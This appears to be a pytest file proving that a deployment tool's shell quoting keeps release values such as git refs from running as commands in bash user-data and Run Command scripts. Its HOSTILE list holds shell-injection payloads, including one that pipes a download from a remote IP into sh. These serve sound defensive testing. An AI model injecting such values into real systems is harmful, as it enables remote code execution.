"""Proof that a release's values cannot reach the shell as code: hostile values rendered into a
realistic user-data template and into Run Command commands are run with bash, where the real
programs are stub shell functions that print each argument they receive. Nothing the values try
to run runs (a marker file they try to create does not exist), and every stub receives each value
exactly, as one argument.

The values are put into the release unvalidated (``model_construct``): the quoting alone must hold,
whatever validation lets through (``git_ref`` may legally hold ``;``, ``$``, quotes and ``|``)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from immutable_deploy.domain.models.request import Release, render, shell_template_problems

USER_DATA = """#!/bin/bash
set -euo pipefail
# install the release
install_app --app {app} --version {version} --ref {git_ref} --commit {commit}
REF={git_ref}
record_ref "$REF"
notify --message=release-{git_ref} {git_ref}
"""
COMMANDS = ["check_health --ref {git_ref} --app {app}", "use_settings {version} {commit}"]

#: each stub prints its name, then each argument, each followed by a NUL (an argument may hold a newline)
STUBS = "".join(
    f'{name}() {{ printf \'%s\\0\' {name} "$#" "$@"; }}\n'
    for name in ("install_app", "record_ref", "notify", "check_health", "use_settings")
)

HOSTILE = [
    "release/2.0.0;touch${IFS}$MARKER;#",
    "release/2.0.0;curl${IFS}-s${IFS}http://203.0.113.9/x|sh;#",
    "$(touch $MARKER)",
    "`touch $MARKER`",
    "a';touch $MARKER;'",
    'a";touch $MARKER;"',
    "x\ntouch $MARKER",
    "x\r\ntouch $MARKER",
    "${IFS}touch${IFS}$MARKER",
    "a|touch $MARKER",
    "a&&touch $MARKER",
    "a||touch $MARKER&",
    "a>$MARKER",
    "*",
    "[a-z]*",
    "?",
    "~",
    "{a,b}",
    "!!",
    "$HOME",
    "$((1+1))",
    "\\",
    "-rf",
    "--ref=x",
    "a b",
    "''",
    '"',
    "release/é",
    "",
]


def run(script: str, tmp_path: Path) -> list[tuple[str, list[str]]]:
    """Run ``script`` with bash after the stubs, in a directory where globs would match; the calls
    the stubs received, in order."""
    for name in ("a1", "ab", "b"):
        (tmp_path / name).write_text("")
    done = subprocess.run(
        ["bash", "-c", STUBS + script],
        cwd=tmp_path,
        capture_output=True,
        timeout=30,
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "MARKER": str(tmp_path / "pwned")},
    )
    assert done.returncode == 0, done.stderr.decode()
    fields = done.stdout.decode().split("\0")[:-1]
    calls = []
    while fields:
        name, count = fields[0], int(fields[1])
        calls.append((name, fields[2 : 2 + count]))
        fields = fields[2 + count :]
    return calls


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_one_argument_each_and_never_run(value, tmp_path):
    release = Release.model_construct(version=value, git_ref=value, commit=value)
    assert shell_template_problems(USER_DATA, whole=False) == []
    assert all(shell_template_problems(command, whole=True) == [] for command in COMMANDS)

    user_data = render(USER_DATA, value, release)
    commands = [render(command, value, release) for command in COMMANDS]

    assert run(user_data, tmp_path) == [
        ("install_app", ["--app", value, "--version", value, "--ref", value, "--commit", value]),
        ("record_ref", [value]),
        ("notify", [f"--message=release-{value}", value]),
    ]
    # Run Command joins the commands into one script
    assert run("\n".join(commands), tmp_path) == [
        ("check_health", ["--ref", value, "--app", value]),
        ("use_settings", [value, value]),
    ]
    assert not (tmp_path / "pwned").exists()


def test_a_safe_value_renders_unchanged():
    release = Release(version="2.0.0", git_ref="release/2.0.0", commit="9fceb02")
    assert render(USER_DATA, "web", release).splitlines()[3] == (
        "install_app --app web --version 2.0.0 --ref release/2.0.0 --commit 9fceb02"
    )
    assert render(COMMANDS[0], "web", release) == "check_health --ref release/2.0.0 --app web"
